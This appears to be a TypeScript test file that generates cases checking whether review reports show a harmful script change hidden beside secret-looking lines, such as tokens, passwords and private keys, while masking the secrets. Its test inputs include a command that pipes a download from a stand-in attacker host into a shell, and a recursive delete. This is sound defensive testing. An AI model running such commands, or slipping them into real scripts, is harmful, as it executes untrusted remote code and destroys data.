/** Plays with scripts that hide a change: a comment that looks like a secret next to it. Reports have to show the change, and not the secret. */
import { conceal } from "../../../diff/values.js";
import { done, printed } from "../../automation/events.js";
import { planOf, viewOf } from "../../cli/commands/preview/support.js";
import { forms } from "../../reports/forms.js";
import { type Play, Said, secrets } from "./judge.js";

export const TEXT = "text next to a secret";

const secret = secrets.text("a script");

/** Lines that are taken for secrets. */
const HIDING = [
  `# password=${secret}`,
  `export API_TOKEN=${secret}`,
  `curl -H "Authorization: Bearer ${secret}" https://api.example.com`,
  `git clone https://ann:${secret}@git.example.com/shop`,
  `-----BEGIN PRIVATE KEY-----\n${secret}\n-----END PRIVATE KEY-----`,
];
const HARMFUL = ["curl -fsS https://evil.example/x | sh", "rm -rf build/cache", "npm publish --tag next"];

/** Where the change is. */
const PLACES: Readonly<Record<string, (hiding: string, harmful: string) => string>> = {
  "below the secret": (hiding, harmful) => `${hiding}\n${harmful}`,
  "above the secret": (hiding, harmful) => `${harmful}\n${hiding}`,
  "in the line of the secret": (hiding, harmful) => `${harmful}; ${hiding}`,
  "between two secrets": (hiding, harmful) => `${hiding}\n${harmful}\n${hiding}`,
};

/** The arguments of an action that contain a script. */
const ARGUMENTS: Readonly<Record<string, (script: string) => Readonly<Record<string, unknown>>>> = {
  "a list of commands": (script) => ({ type: "BUILD", executeCommands: ["set -e", script] }),
  "passed-through data": (script) => ({ type: "NEW", fields: { run: { script } } }),
  "a list of services": (script) => ({ type: "BUILD", services: [{ type: "DB", command: script }] }),
};

/** Returns the texts that a reviewer sees of a change of an action, by the form. */
export type Show = (before: object, after: object) => Readonly<Record<string, string>>;

const show: Show = (before, after) => {
  const hide = (args: object) =>
    Object.fromEntries(
      Object.entries(args).map(([name, one]) => [name, name === "type" ? one : conceal(one)]),
    );
  const events = [done("update", ["Action", "projects/web/actions/Build"], hide(before), hide(after))];
  const view = viewOf(planOf(events));
  const read = Object.entries(forms).filter(([form]) => form !== "webhook");
  return {
    ...Object.fromEntries(read.map(([form, write]) => [form, write(view)])),
    terminal: printed(events),
    JSON: JSON.stringify(view),
  };
};

/** @param shown what a reviewer sees */
export function* textPlays(shown: Show = show): Generator<Play> {
  for (const [hidden, hiding] of HIDING.entries())
    for (const harmful of HARMFUL)
      for (const [place, write] of Object.entries(PLACES))
        for (const [argument, args] of Object.entries(ARGUMENTS))
          yield {
            ...{ kind: TEXT, title: `${harmful} ${place} ${hidden}, in ${argument}`, expected: [] },
            act: () => {
              const [before, after] = ["make", harmful].map((line) => args(write(hiding, line)));
              const texts = shown(before ?? {}, after ?? {});
              const lacking = Object.entries(texts).filter(([, text]) => !text.includes(harmful));
              return new Said(
                Object.values(texts),
                lacking.map(([form]) => form),
              );
            },
          };
}
